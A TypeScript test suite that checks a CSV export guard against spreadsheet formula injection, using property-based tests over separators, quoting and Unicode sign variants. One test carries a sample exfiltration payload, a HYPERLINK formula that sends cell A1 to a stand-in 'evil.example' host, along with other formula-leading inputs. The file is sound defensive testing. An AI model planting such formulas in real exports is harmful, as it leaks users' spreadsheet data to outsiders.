/** No cell of a CSV is run as a formula, however a spreadsheet splits it, and each text can be had back. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FORMULAS, guarded, SUSPECT } from '@daypart/client/text';
import fc from 'fast-check';
import { unguarded } from '../../../test/unguarded.ts';
import { csvLine } from './csv.ts';

const RUNS = Number(process.env.LAWS ?? 1000);
const FIELDS = ['restaurantGuid', 'diningOption', 'ordersCount', 'serverName'] as const;
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁺', '₌'];
const PASSED_OVER = [' ', '\u00a0', '\u3000', '\u2003', '\u200b', '\u200e', '\ufeff', '\u00ad', '\u2060', '\u0001'];
const SEPARATORS = [';', '\t', ',', '\n', '\r', '\r\n', '"', "'", '""'];
/** Texts of the characters that matter, and a few letters. */
const text = fc
  .array(fc.constantFrom(...SIGNS, ...PASSED_OVER, ...SEPARATORS, ...SEPARATORS, 'a', '1', 'é'), { maxLength: 12 })
  .map((parts) => parts.join(''));

/**
 * The cells that a spreadsheet reads from the lines, which end anywhere outside quotes. With `quotes` a cell that
 * begins with a quote ends at the next single one, and the text after that is added to it, as lenient readers do.
 */
function split(csv: string, separator: string, quotes: boolean): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  let begun = false;
  for (let at = 0; at < csv.length; at++) {
    const char = csv[at] ?? '';
    if (quoted) {
      if (char !== '"') cell += char;
      else if (csv[at + 1] === '"') cell += csv[++at];
      else quoted = false;
    } else if (quotes && !begun && char === '"') {
      quoted = begun = true;
    } else if (char === separator || char === '\n' || char === '\r') {
      cells.push(cell);
      cell = '';
      begun = false;
    } else {
      cell += char;
      begun = true;
    }
  }
  return [...cells, cell];
}

/** Whether it would be run as a formula: after blanks, invisible marks and quotes it begins with a sign of any form. */
const isFormula = (cell: string): boolean =>
  /^[=+\-@−]/.test(cell.replace(/^[\s\p{Z}\p{Cc}\p{Cf}"]+/u, '').normalize('NFKC'));

describe('a cell of CSV', () => {
  it('is never a formula if `,`, `;` or a tab separates, with or without support for quotes', () => {
    fc.assert(
      fc.property(text, text, (diningOption, serverName) => {
        const row = { restaurantGuid: 'b15', diningOption, ordersCount: 2, serverName };
        const csv = `${FIELDS.join(',')}\r\n${csvLine(FIELDS, row)}${csvLine(FIELDS, row)}`;
        const readings = [
          { separator: ',', quotes: true },
          ...[';', '\t'].flatMap((separator) => [true, false].map((quotes) => ({ separator, quotes }))),
        ];
        for (const { separator, quotes } of readings) {
          assert.deepEqual(split(csv, separator, quotes).filter(isFormula), [], JSON.stringify({ separator, quotes }));
        }
      }),
      { numRuns: RUNS },
    );
  });

  it('returns the text, unchanged if nothing in it begins a formula', () => {
    fc.assert(
      fc.property(fc.oneof(text, fc.string({ unit: 'binary' })), (one) => {
        assert.equal(unguarded(guarded(one)), one);
      }),
      { numRuns: RUNS },
    );
    for (const plain of ['', 'Dine In', 'Take-out', 'A + B', 'R&D; Lab', "O'Brien", '東京の店', 'a=1', "'tis"])
      assert.equal(guarded(plain), plain);
  });

  it('recognizes a sign in every form that Unicode has', () => {
    const missed: string[] = [];
    for (let code = 1; code <= 0xffff; code++) {
      const char = String.fromCharCode(code);
      if (/^[=+\-@−]/.test(char.normalize('NFKC')) && guarded(`${char}1`) !== `'${char}1`)
        missed.push(code.toString(16));
    }
    assert.deepEqual(missed, []);
  });

  it('has the values of a list between semicolons, and an empty list is an empty text', () => {
    const fields = ['settledDates', 'paymentTotal', 'transactionCount'];

    assert.equal(
      csvLine(fields, { settledDates: ['20260311', '20260313'], paymentTotal: 48, transactionCount: 2 }),
      '20260311;20260313,48.00,2\r\n',
    );
    assert.equal(csvLine(fields, { settledDates: [], paymentTotal: null }), '"",,\r\n');
  });

  it('is guarded in every field that is no number, and figures keep their sign', () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
    const fields = ['at', 'target', 'clientId', 'name', 'group', 'scopes', 'restaurantGuid'];
    const row = { at: '2026-03-20T18:00:05.123Z', target: '\t@SUM(1)', clientId: '-c', name: formula, group: '+g' };
    const more = { scopes: ['ok', '=1'], restaurantGuid: '9c6b1f0e-3d52-4a7b-8f10-2b6e4d9a7c31' };
    assert.equal(
      csvLine(fields, { ...row, ...more }),
      `${row.at},'\t'@SUM(1),'-c,"'${formula.replaceAll('"', '""')}",'+g,ok;'=1,${more.restaurantGuid}\r\n`,
    );

    const figures = ['netSalesAmount', 'netSalesAmountDifference', 'hourlyJobTotalPay', 'menuItemName', 'rows'];
    assert.equal(
      csvLine(figures, {
        netSalesAmount: -4.5,
        netSalesAmountDifference: '-12.00',
        hourlyJobTotalPay: '-0.10',
        menuItemName: '-5',
        rows: -1,
      }),
      "-4.50,-12.00,-0.10,'-5,-1\r\n",
    );
  });

  it('is guarded by rules that hold in both places where they are used', () => {
    assert.deepEqual(['=1', 'a;=1', 'a; \u00a0"=1', "'=1", '\ta', 'a\r\n-1', 'a;b'].map(guarded), [
      "'=1",
      "a;'=1",
      'a;\' \u00a0"=1',
      "''=1",
      "'\ta",
      "a\r\n'-1",
      'a;b',
    ]);
    for (const pattern of [SUSPECT, ...FORMULAS]) assert.doesNotMatch(pattern, /\(\?/);
  });
});
